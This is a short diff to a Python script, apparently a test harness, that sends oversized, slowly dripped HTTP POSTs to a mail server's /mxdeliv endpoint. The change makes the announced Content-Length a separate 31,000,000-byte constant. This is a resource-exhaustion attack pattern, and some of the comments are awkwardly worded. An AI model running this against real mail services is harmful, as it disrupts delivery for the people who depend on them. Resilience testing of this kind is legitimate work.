@@ -20,8 +20,8 @@ from dataclasses import dataclass, field
 
 from test.support.mail_clients import unchecked_tls
 
-# The largest message is 31,457,280 octets.
-LARGE = 30_000_000
+# The largest message is 31,457,280 octets; nobody here comes to the end of his.
+LARGE, ANNOUNCED = 30_000_000, 31_000_000
 # How many of each sort send one of that size. Of the others it is what is too large for the filter to take unasked.
 LARGE_ONES = 5
 MEDIUM = 1_000_000
@@ -130,7 +130,7 @@ async def mxdeliv(attack: Attack, source: str, size: int) -> None:
     async with connected(attack, source, 443, tls=True) as connection:
         connection[1].write(
             f"POST /mxdeliv HTTP/1.1\r\nHost: {attack.domain}\r\nX-MAIL-FROM: someone@attacker.test\r\n"
-            f"X-MAIL-TO: {attack.user}\r\nContent-Length: {LARGE + 1000}\r\n\r\n".encode()
+            f"X-MAIL-TO: {attack.user}\r\nContent-Length: {ANNOUNCED}\r\n\r\n".encode()
         )
         await fill(connection, size)
         await drip(attack, "/mxdeliv", connection, b"x")
